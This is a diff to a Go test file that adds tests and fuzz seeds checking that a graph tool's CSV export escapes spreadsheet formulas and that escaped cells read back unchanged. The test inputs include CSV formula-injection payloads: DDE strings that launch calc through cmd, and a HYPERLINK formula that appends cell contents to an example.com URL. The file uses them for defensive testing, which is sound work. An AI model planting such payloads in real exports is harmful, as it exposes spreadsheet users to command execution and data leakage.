@@ -2,8 +2,11 @@ package csv_test
 
 import (
 	"bytes"
+	stdcsv "encoding/csv"
+	"regexp"
 	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"github.com/emigraph/emigraph/graph"
 	"github.com/emigraph/emigraph/seed/format/csv"
@@ -191,6 +194,9 @@ func FuzzParseCSV(f *testing.F) {
 		"subject,predicate,quote,amount,lowerBound\na,p,q,-0,0\na,p,r,0,-0\n",
 		"action,subject,predicate,quote,title\nretract,a,p,,\nretract,a,p,,\nretract,a,p,q,\nretract,a,p,,T\n",
 		"subject,predicate,quote,title\na,p,,\na,p,q,\na,p,,T\n",
+		// formulas, their escapes, and quotes that are not escapes
+		"subject,predicate,quote,note,amount,lowerBound\n=1,p,'=HYPERLINK(\"x\"),''q,-5,'-1\n'Tis,p,@x,-,+3,'+2\n",
+		"subject,predicate,quote,title\n\"\tx\",p,\"'\ry\",'\n'-,p,''',''\n",
 	)...)
 }
 
@@ -211,4 +217,119 @@ func TestCSVReportsEveryProblem(t *testing.T) {
 			t.Errorf("the errors do not say %q:\n%v", want, err)
 		}
 	}
+}
+
+// formulaCells are cells a spreadsheet would run as formulas, or that look
+// like the escape of one, and cells that must stay as they are.
+var formulaCells = []string{
+	`=HYPERLINK("https://example.com/x?"&A1,"Click for the source")`,
+	"+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed", "\rCarriage", "=1",
+	"'=already quoted", "''two quotes", "'Tis the season", "'", "-", "-5", "+3.5", "-1e+25", "- a dash and a space",
+}
+
+// inert reports the first cell of a written CSV file (after its header)
+// that a spreadsheet would read as a formula.
+func inert(t *testing.T, written []byte) string {
+	t.Helper()
+	rows, err := stdcsv.NewReader(bytes.NewReader(written)).ReadAll()
+	if err != nil {
+		t.Fatalf("the written file is not CSV: %v\n%s", err, written)
+	}
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !numberRE.MatchString(cell) {
+				return cell
+			}
+		}
+	}
+	return ""
+}
+
+var numberRE = regexp.MustCompile(`^[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?$`)
+
+// formulaChangeset puts cell in every free-text field of a relation and an
+// entity.
+func formulaChangeset(cell string) *graph.Changeset {
+	return &graph.Changeset{
+		Entities: []graph.EntityChange{{Entity: graph.Entity{ID: "person/a", Name: cell, Type: graph.Person, Description: cell}}},
+		Relations: []graph.RelationChange{{Relation: graph.Relation{Subject: cell, Predicate: "fled-to", Object: cell, Note: cell,
+			Sources: []graph.Source{{Quote: cell, Section: cell, Title: cell, URL: cell}}}}},
+	}
+}
+
+// A CSV export makes every cell a spreadsheet would run as a formula text
+// (a single quote in front, as OWASP recommends), and reads back as it was:
+// a quote that starts with "=" or "-" loads unchanged.
+func TestCSVExportEscapesFormulas(t *testing.T) {
+	for _, cell := range formulaCells {
+		t.Run(cell, func(t *testing.T) {
+			c := formulaChangeset(cell)
+			var buf bytes.Buffer
+			if err := csv.Write(&buf, c); err != nil {
+				t.Fatal(err)
+			}
+			if bad := inert(t, buf.Bytes()); bad != "" {
+				t.Errorf("the export has the cell %q, which a spreadsheet runs as a formula:\n%s", bad, buf.Bytes())
+			}
+			formattest.RoundTrip(t, csv.Format, "f.csv", c)
+		})
+	}
+	var buf bytes.Buffer
+	csv.Write(&buf, formulaChangeset(`=HYPERLINK("https://example.com","x")`))
+	if !strings.Contains(buf.String(), `"'=HYPERLINK(""https://example.com"",""x"")"`) {
+		t.Errorf("the formula is not written with a single quote in front:\n%s", buf.String())
+	}
+}
+
+// A single quote in front of a formula character or of another single
+// quote is the escape, and is taken off; any other quote is part of the
+// cell.
+func TestCSVReadsEscapedCells(t *testing.T) {
+	in := "subject,predicate,quote,note,amount\n" +
+		"'Tis,fled-to,'=1+1,'-2,'-5\n" +
+		"'@x,fled-to,''quoted,'plain,5\n"
+	c, err := csv.Parse("f.csv", strings.NewReader(in))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r0, r1 := c.Relations[0].Relation, c.Relations[1].Relation
+	for _, tc := range []struct{ got, want string }{
+		{r0.Subject, "'Tis"}, {r0.Sources[0].Quote, "=1+1"}, {r0.Note, "-2"},
+		{r1.Subject, "@x"}, {r1.Sources[0].Quote, "'quoted"}, {r1.Note, "'plain"},
+	} {
+		if tc.got != tc.want {
+			t.Errorf("read %q, want %q", tc.got, tc.want)
+		}
+	}
+	if q := r0.Quantity; q == nil || q.Amount != -5 {
+		t.Errorf("amount '-5 read as %+v, want -5", q)
+	}
+}
+
+// Whatever text a field holds, the export has no cell a spreadsheet runs as
+// a formula, and reads back as it was.
+func FuzzCSVCellsAreInert(f *testing.F) {
+	for _, cell := range formulaCells {
+		f.Add(cell)
+	}
+	f.Fuzz(func(t *testing.T, cell string) {
+		if !utf8.ValidString(cell) || strings.Contains(cell, "\r\n") {
+			return // text no parser gives (CSV reads a line ending in a cell as "\n")
+		}
+		c := formulaChangeset(cell)
+		var buf bytes.Buffer
+		if err := csv.Write(&buf, c); err != nil {
+			return // a cell CSV cannot carry is refused, not written
+		}
+		if bad := inert(t, buf.Bytes()); bad != "" {
+			t.Fatalf("the export has the cell %q, which a spreadsheet runs as a formula", bad)
+		}
+		got, err := csv.Parse("f.csv", bytes.NewReader(buf.Bytes()))
+		if err != nil {
+			t.Fatalf("Parse(Write(c)): %v\n%s", err, buf.Bytes())
+		}
+		if diff := formattest.Same(got, c); diff != "" {
+			t.Fatalf("Parse(Write(c)) differs from c:%s\n--- written:\n%q", diff, buf.Bytes())
+		}
+	})
 }
